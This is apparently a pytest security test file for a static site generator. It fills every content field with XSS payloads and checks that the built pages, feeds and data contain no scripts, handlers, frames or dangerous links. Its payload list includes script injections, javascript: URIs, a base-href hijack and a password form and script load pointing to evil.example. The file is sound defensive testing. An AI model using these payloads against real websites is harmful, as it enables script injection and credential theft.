"""Untrusted text is harmless: hostile strings in every field of every file put nothing into the site but text."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup, Tag

from digest.read.text import FORBIDDEN
from tests.sites import built, write

FORBIDDEN_TAGS = (
    "iframe, object, embed, applet, base, style, svg:not(form svg, .chart svg), math, template, frame, portal, video,"
    "audio"
)
SCHEMES = {"", "http", "https", "mailto"}
ATOM = "{http://www.w3.org/2005/Atom}"
SITE = """\
title: {title}
tagline: {tagline}
base_url: https://example.org/
navigation: [themes, glossary, about]
page_size: 200
clean: {{enabled: false}}
checks: {{broken-link: off}}
"""


# One of each kind; the public collections have hundreds more.
OURS = [
    "<script>alert(1)</script>",
    "</title><script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "<form action=//evil.example/><input name=password></form>",
    '<a class="term" href="/glossary/hts/" data-term="forged" aria-describedby="t-hts">HTS</a>',
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/pixel.gif) <javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1) 'title'",
    "{{ site.title }} {% include 'base.html' %} {# #}",
    "]]> <!-- --> <![CDATA[ &lt;script&gt; &#60;script&#62;",
    "${alert(1)} `code` %{x} <%= 1 %>",
    "\u202eevil \u2028 \u200f \ufeff",
    "ثم نفس سقطت وبالتحديد، 田中さんにあげて下さい 👩‍👩‍👧‍👦",
]


def hostile(corpora: Path) -> list[str]:
    """The strings of the collections that a content file can hold; brackets that name terms would name unknown ones."""
    naughty = json.loads((corpora / "blns.json").read_text())
    payloads = [payload["p"] for payload in json.loads((corpora / "dompurify.json").read_text())]
    texts = dict.fromkeys(text[:1000] for text in (*naughty, *payloads) if text.strip() and "[[" not in text)
    return [text for text in texts if not FORBIDDEN.search(text)]


def quoted(text: object) -> str:
    """A value as YAML has it."""
    return json.dumps(text, ensure_ascii=False)


def article(number: int, texts: tuple[str, ...]) -> str:
    """An entry with a hostile string in each of its fields."""
    title, summary, note, dateline, agency, author, source, alt, mended, body = texts
    keys = {
        "title": title,
        "summary": summary,
        "note": note,
        "dateline": dateline,
        "agency": agency,
        "authors": [author],
        "sources": [{"name": source, "title": title, "url": "https://example.com/?a=1&b=2"}],
        "image": {"src": "/a.png", "alt": alt, "credit": alt},
        "corrections": [{"date": "2025-04-11", "note": mended}],
        "themes": ["theme"],
        "story": "story",
    }
    lines = [f"{key}: {quoted(value)}" for key, value in keys.items()]
    return "\n".join(("---", f"date: 2025-04-{number % 28 + 1:02}", *lines, "---", f"HTS. {body}", ""))


def term(number: int, texts: tuple[str, ...]) -> str:
    """A term with a hostile string in each of its fields."""
    name, full, alias, native, body = texts
    keys = {
        "term": f"{name} {number}",
        "name": f"{full} {number}",
        "aliases": [{"text": f"{alias} {number}", "ambiguous": True}],
        "native": {"ar": f"{native} {number}"},
        "valid": [{"until": "2025-04-11", "note": alias, "definition": full}],
    }
    return "\n".join(("---", *(f"{key}: {quoted(value)}" for key, value in keys.items()), "---", body, ""))


def group(texts: tuple[str, ...]) -> str:
    """A theme or a story with a hostile string in each of its fields."""
    title, summary, body = texts
    return f"---\ntitle: {quoted(title)}\nsummary: {quoted(summary)}\n---\n{body}\n"


@pytest.fixture(scope="module", params=["ours", "collections"])
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A digest that holds every hostile string in many places, built."""
    texts = OURS * 8 if request.param == "ours" else hostile(request.getfixturevalue("corpora"))
    assert len(texts) > 150
    markup = [text for text in texts if "<" in text]
    files = {f"content/articles/n{n}.md": article(n, row) for n, row in rows(texts, 10)}
    files |= {f"content/articles/m{n}.md": article(n, row) for n, row in rows(markup[::-1], 10)}
    files |= {f"content/glossary/t{n}.md": term(n, row) for n, row in rows(texts[::2], 5)}
    files["content/glossary/hts.md"] = f"---\nterm: HTS\n---\n{markup[0]}\n"
    files["content/themes/theme.md"] = group(("</title><script>alert(1)</script>", markup[1], "\n\n".join(markup[:60])))
    files["content/stories/story.md"] = group(
        ("--><img src=x onerror=alert(1)>", markup[2], "\n\n".join(markup[60:120]))
    )
    files["content/pages/about.md"] = f"---\ntitle: {quoted(markup[3])}\n---\n" + "\n\n".join(markup[120:])
    files["content/site.yaml"] = SITE.format(title=quoted('"><script>alert(1)</script>'), tagline=quoted(markup[4]))
    return built(write(tmp_path_factory.mktemp("hostile"), {**files, "content/static/a.png": ""})).out


def rows(texts: list[str], width: int) -> Iterator[tuple[int, tuple[str, ...]]]:
    """The texts in numbered rows of this width, each text once; the last row is filled from the beginning."""
    filled = [*texts, *texts[: -len(texts) % width]]
    return enumerate(tuple(filled[start : start + width]) for start in range(0, len(filled), width))


def faults(page: BeautifulSoup, name: str) -> Iterator[str]:
    """What no text of ours would put into a page."""
    for tag in page.find_all(True):
        yield from (f"{name}: {attribute} on {tag.name}" for attribute in tag.attrs if attribute.startswith("on"))
        yield from (f"{name}: style on {tag.name}" for _ in tag.get_attribute_list("style") if "style" in tag.attrs)
        for attribute in {"href", "src", "action", "srcset", "formaction"} & tag.attrs.keys():
            scheme = urlsplit(str(tag[attribute]).strip()).scheme
            if scheme.lower() not in SCHEMES:
                yield f"{name}: {tag.name} leads to {tag[attribute]}"
    yield from (f"{name}: {tag}" for tag in page.select(FORBIDDEN_TAGS))
    yield from (f"{name}: {tag}" for tag in page.select("script") if not is_ours(tag))
    yield from (
        f"{name}: {tag}" for tag in page.select("meta[http-equiv], link[rel=stylesheet]:not([href^='/assets/'])")
    )
    yield from (f"{name}: {tag}" for tag in page.select("img:not([src='/a.png']), form:not([action='/search/'])"))
    yield from (f"{name}: {tag}" for tag in page.select("input, button, select, textarea") if is_in_a_text(tag))
    yield from (f"{name}: {tag}" for tag in page.select("[data-term]:not(#filters)") if tag["data-term"] != "hts")


def is_in_a_text(tag: Tag) -> bool:
    """Whether an element stands where only authors' words should."""
    return tag.find_parent(["h1", "h2", "h3", "dl", "blockquote", "cite"]) is not None or bool(
        tag.find_parent(class_="prose")
    )


def is_ours(script: Tag) -> bool:
    """Whether a script is one of our assets, or data."""
    if script.get("type") == "application/ld+json":
        return bool(json.loads(script.get_text()))
    return str(script.get("src", "")).startswith("/assets/") and not script.get_text()


def test_pages_hold_nothing_of_it(site: Path) -> None:
    """No page has a script, a handler, a style, a frame, a foreign picture or a link that runs anything."""
    found = [
        fault
        for path in sorted(site.rglob("*.html"))
        for fault in faults(BeautifulSoup(path.read_text(), "lxml"), path.name)
    ]
    assert found == []


def test_texts_are_shown_as_they_are(site: Path) -> None:
    """What was written is shown, as text: nothing is lost by making it harmless."""
    page = BeautifulSoup((site / "themes/theme/index.html").read_text(), "lxml")
    assert page.select_one("h1").get_text() == "</title><script>alert(1)</script>"  # type: ignore[union-attr]
    assert page.title is not None
    assert page.title.get_text() == '</title><script>alert(1)</script> · "><script>alert(1)</script>'


def test_feeds_and_data_can_be_read(site: Path) -> None:
    """Feeds, sitemap and data are well-formed, and the texts in feeds hold nothing of it either."""
    for path in (*site.rglob("*.xml"),):
        root = ElementTree.parse(path).getroot()
        for content in root.iter(f"{ATOM}content"):
            assert list(faults(BeautifulSoup(content.text or "", "lxml"), path.name)) == []
    for path in (*site.rglob("*.json"), site / "glossary.jsonld"):
        data = json.loads(path.read_text())
        for item in data.get("items", ()):
            assert list(faults(BeautifulSoup(item["content_html"], "lxml"), path.name)) == []
